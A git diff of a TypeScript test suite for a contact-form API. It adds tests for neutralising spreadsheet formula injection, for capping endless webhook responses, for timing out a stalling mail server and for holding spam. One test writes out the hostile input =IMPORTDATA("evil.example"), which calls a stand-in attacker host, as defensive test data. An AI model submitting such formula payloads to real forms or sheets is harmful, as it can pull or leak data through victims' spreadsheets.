@@ -1,5 +1,9 @@
 import fc from 'fast-check';
+import { once } from 'node:events';
 import type { ServerResponse } from 'node:http';
+import { createServer, type AddressInfo, type Socket } from 'node:net';
+import { withoutFormulas } from '../src/contact/enquiry/without-formulas.ts';
+import { Mailer } from '../src/mail/mailer.ts';
 import { startMailServer, startWebhook, textOfMail, until } from './receivers.ts';
 import { json, startApi, type TestApi } from './start-api.ts';
 
@@ -57,7 +61,8 @@ it('posts an enquiry to the endpoint as a form, with its reference', async () =>
         FirstName: 'Asha',
         LastName: 'Rao',
         Email: 'asha@example.org',
-        Phone: '+91 98765 43210',
+        // An apostrophe, which spreadsheets do not show, keeps it text.
+        Phone: "'+91 98765 43210",
         Subject: 'A question',
         Helpyou: 'Could you look at my report, please?',
         Timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
@@ -112,6 +117,81 @@ it('follows the redirect that spreadsheet endpoints answer with', async () => {
   const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
   await until(delivered(api, await send(api)));
   expect(endpoint.received).toHaveLength(1);
+});
+
+it('sends nothing that a spreadsheet would take for a formula', async () => {
+  const endpoint = await webhook((response) => response.end('ok'));
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
+  const formula = '=IMPORTDATA("evil.example")';
+  await until(
+    delivered(api, await send(api, { firstName: formula, subject: '＝1+1', helpyou: 'Hello\n@SUM(A1)' })),
+  );
+  expect(endpoint.received[0]!.fields).toMatchObject({
+    FirstName: `'${formula}`,
+    Subject: `'＝1+1`,
+    Helpyou: `Hello\n'@SUM(A1)`,
+  });
+});
+
+it('reads no more than the beginning of an answer that has no end', async () => {
+  let sent = 0;
+  const endpoint = await webhook((response) => {
+    const more = () => {
+      if (response.destroyed || sent > 50_000_000) return;
+      sent += 65_536;
+      if (response.write('x'.repeat(65_536))) setImmediate(more);
+      else response.once('drain', more);
+    };
+    more();
+  });
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
+  await until(delivered(api, await send(api)));
+  expect(sent).toBeLessThan(10_000_000);
+});
+
+it('gives a mail server that goes on saying a little no more than its time', async () => {
+  const sockets: Socket[] = [];
+  const trickle = createServer((socket) => {
+    sockets.push(socket);
+    socket.on('error', () => {});
+    const timer = setInterval(() => socket.write('220-still here\r\n'), 50);
+    socket.on('close', () => clearInterval(timer));
+  }).listen(0, '127.0.0.1');
+  await once(trickle, 'listening');
+  stops.push(async () => trickle.close());
+  const { port } = trickle.address() as AddressInfo;
+  const api = await apiWith({ SMTP_URL: `smtp://127.0.0.1:${port}`, ENQUIRY_MAIL_TO: 'desk@example.org' });
+  api.application.nest.get(Mailer).limitMs = 300;
+  const reference = await send(api);
+  await until(async () => (await read(api, reference)).deliveries[0].attemptCount > 0);
+  const [{ attempts }] = (await read(api, reference)).deliveries;
+  expect(attempts[0]).toMatchObject({ outcome: 'failed', reason: 'timed out' });
+  await until(() => sockets[0]!.destroyed);
+});
+
+it('delivers nothing more of what was found to be spam, until it is found not to be', async () => {
+  let fails = true;
+  const endpoint = await webhook((response) => (fails ? response.writeHead(500).end() : response.end('ok')));
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, DELIVERY_FIRST_RETRY_MS: '10000000' });
+  const reference = await send(api);
+  const admin = await api.asAdmin();
+  const state = async () => (await read(api, reference)).deliveries[0].state as string;
+  const change = (status: string) =>
+    api.send('PATCH', `/api/admin/enquiries/${reference}`, { status }, admin);
+  await until(async () => (await read(api, reference)).deliveries[0].attemptCount === 1);
+  await change('spam');
+  expect(await state()).toBe('held');
+  fails = false;
+  await api.database
+    .collection('enquiries')
+    .updateMany({}, { $set: { 'deliveries.0.nextAttemptAt': new Date(0) } });
+  expect(await json(api.send('POST', '/api/admin/enquiries/held/release', undefined, admin))).toEqual({
+    released: 0,
+  });
+  expect(endpoint.received).toHaveLength(1);
+  await change('new');
+  await until(delivered(api, reference));
+  expect(endpoint.received).toHaveLength(2);
 });
 
 it('mails an enquiry, with an answer going to the visitor', async () => {
@@ -235,11 +315,12 @@ it('brings every character of names and messages through: database, endpoint, ma
       const reference = await send(api, { firstName, helpyou });
       await until(delivered(api, reference));
       const sent = endpoint.received.findLast(({ idempotencyKey }) => idempotencyKey === reference)!;
-      expect([sent.fields.FirstName, sent.fields.Helpyou]).toEqual([firstName, helpyou]);
+      expect([sent.fields.FirstName, sent.fields.Helpyou]).toEqual([firstName, helpyou].map(withoutFormulas));
       expect(await read(api, reference)).toMatchObject({ firstName, helpyou });
       const csv = await (await api.get('/api/admin/enquiries/export.csv', admin)).text();
       const row = csv.split('\r\n').find((line) => line.includes(reference))!;
-      for (const text of [firstName, helpyou]) expect(row).toContain(`${text.replaceAll('"', '""')}"`);
+      for (const text of [firstName, helpyou].map(withoutFormulas))
+        expect(row).toContain(`${text.replaceAll('"', '""')}"`);
       const mail = server.mails.find(({ source }) => source.includes(`<${reference}@`))!;
       expect(textOfMail(mail.source)).toContain(`\n\n${helpyou}`);
       expect(textOfMail(mail.source)).toContain(`Name: ${firstName} Rao`);
